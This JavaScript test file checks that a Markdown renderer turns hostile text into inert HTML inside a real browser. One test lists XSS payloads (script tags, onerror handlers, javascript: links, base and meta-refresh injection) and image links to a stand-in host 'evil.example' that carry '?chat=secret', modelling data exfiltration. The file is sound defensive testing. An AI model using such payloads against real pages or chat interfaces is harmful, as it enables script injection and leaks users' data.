// The Markdown renderer against hostile text, in a real DOM under the page's own policy.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { collectErrors, launchChromium, skipWithout, startServer } from "./harness.mjs";

const skip = skipWithout("chromium");
/** @type {import("./server.mjs").Server} */
let server;
/** @type {import("playwright-core").BrowserContext} */
let browser;
/** @type {import("playwright-core").Page} */
let page;
/** @type {string[]} */
let errors;

before(async () => {
  if (skip) return;
  server = await startServer();
  browser = await launchChromium({ gpu: false });
  page = await browser.newPage();
  errors = collectErrors(page);
  const policy = "default-src 'none'; script-src 'self'; require-trusted-types-for 'script'; trusted-types 'none'";
  server.fault("/blank.html", { body: "<!doctype html><title>blank</title>", headers: { "Content-Security-Policy": policy } });
  await page.goto(`${server.url}blank.html`);
});
after(async () => {
  await browser?.close();
  await server?.close();
});

/** @param {string} text @returns {Promise<string>} the HTML that the nodes would be */
const render = (text) =>
  page.evaluate(async (text) => {
    const { markdown } = await import(/** @type {string} */ ("/page/markdown.js"));
    document.body.replaceChildren(markdown(text));
    return document.body.innerHTML;
  }, text);

test("Markdown becomes the elements it means", { skip }, async () => {
  const cases = [
    ["one\ntwo\n\nthree", "<p>one<br>two</p><p>three</p>"],
    ["# A *b* `c`", "<h4>A <em>b</em> <code>c</code></h4>"],
    ["3. x\n4. y", '<ol start="3"><li>x</li><li>y</li></ol>'],
    ["- a\n  - b\n- [x] c", "<ul><li>a<ul><li>b</li></ul></li><li>☑ c</li></ul>"],
    ["```js\n<b>\n```", '<pre tabindex="0"><code>&lt;b&gt;</code></pre>'],
    ["|a|b|\n|-|-:|\n|1|**2**|", '<div class="table" tabindex="0"><table><thead><tr><th>a</th><th class="align-right">b</th></tr></thead><tbody><tr><td>1</td><td class="align-right"><strong>2</strong></td></tr></tbody></table></div>'],
    ["> q\n\n---\n~~d~~ \\*e", "<blockquote><p>q</p></blockquote><hr><p><del>d</del> *e</p>"],
    ["a &lt;b&gt; &amp; c < d", "<p>a &lt;b&gt; &amp; c &lt; d</p>"],
  ];
  for (const [text = "", html] of cases) assert.equal(await render(text), html, text);
});

test("nothing in a text becomes active", { skip }, async () => {
  const hostile = [
    "<script>alert(1)</script>",
    "x <img src=x onerror=alert(1)> y",
    "<svg onload=alert(1)>\n\n<iframe src=//evil.example></iframe>",
    "<div style='position:fixed'>*x*</div>",
    "![pixel](https://evil.example/?chat=secret)",
    "![](https://evil.example/?chat=secret)",
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](&#106;avascript:alert(1)) [d](data:text/html,x) [e](vbscript:x) [f](/relative) [g](//evil.example)",
    "<javascript:alert(1)> <a href='https://evil.example'>x</a>",
    "[r]\n\n[r]: javascript:alert(1)",
    "```\"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> |\n|-|\n| <script>alert(1)</script> |",
    "# <b onclick=alert(1)>x</b>\n- <style>*{display:none}</style>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<!-- --><base href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
  ];
  for (const text of hostile) {
    await render(text);
    const found = await page.evaluate(() => {
      const allowed = new Set("P BR H4 H5 H6 UL OL LI PRE CODE BLOCKQUOTE STRONG EM DEL HR A SPAN DIV TABLE THEAD TBODY TR TH TD".split(" "));
      const names = new Set("start tabindex class href target rel title".split(" "));
      const all = [...document.body.querySelectorAll("*")];
      return {
        elements: all.filter(({ tagName }) => !allowed.has(tagName)).map(({ outerHTML }) => outerHTML),
        attributes: all.flatMap((e) => e.getAttributeNames().filter((name) => !names.has(name))),
        links: [...document.body.querySelectorAll("a")].map(({ href, rel, target }) => ({ href, rel, target })),
      };
    });
    assert.deepEqual(found.elements, [], text);
    assert.deepEqual(found.attributes, [], text);
    assert.deepEqual(found.links, [], text);
  }
  assert.equal(await render("<script>alert(1)</script>"), "&lt;script&gt;alert(1)&lt;/script&gt;", "markup is shown, not lost");
});

test("links lead to the web, in a new tab, and say where", { skip }, async () => {
  assert.equal(
    await render('[x](https://example.com/a?b "t") http://example.org'),
    '<p><a href="https://example.com/a?b" target="_blank" rel="noopener noreferrer nofollow" title="https://example.com/a?b">x</a> ' +
      '<a href="http://example.org/" target="_blank" rel="noopener noreferrer nofollow" title="http://example.org/">http://example.org</a></p>',
  );
});

test("absurd nesting and length neither hang nor overflow", { skip }, async () => {
  for (const text of [">".repeat(5000), "- ".repeat(2000) + "x", "*".repeat(20000), "[".repeat(5000), "`".repeat(5001), "a ".repeat(100000), "<".repeat(20000)]) {
    const began = Date.now();
    await render(text);
    assert.ok(Date.now() - began < 5000, `${text.slice(0, 10)}.. took ${Date.now() - began} ms`);
  }
});

test("a growing text keeps the nodes of finished blocks", { skip }, async () => {
  const kept = await page.evaluate(async () => {
    const { GrowingMarkdown } = await import(/** @type {string} */ ("/page/markdown.js"));
    const view = new GrowingMarkdown(document.body);
    document.body.replaceChildren();
    view.show("One.\n\nTw");
    const first = document.body.firstChild;
    view.show("One.\n\nTwo **thr");
    const middle = document.body.innerHTML;
    view.show("One.\n\nTwo **three**");
    return { same: first === document.body.firstChild, middle, end: document.body.innerHTML };
  });
  assert.deepEqual(kept, { same: true, middle: "<p>One.</p><p>Two **thr</p>", end: "<p>One.</p><p>Two <strong>three</strong></p>" });
});

test("no script ran and no request was tried", { skip }, () => assert.deepEqual(errors, []));
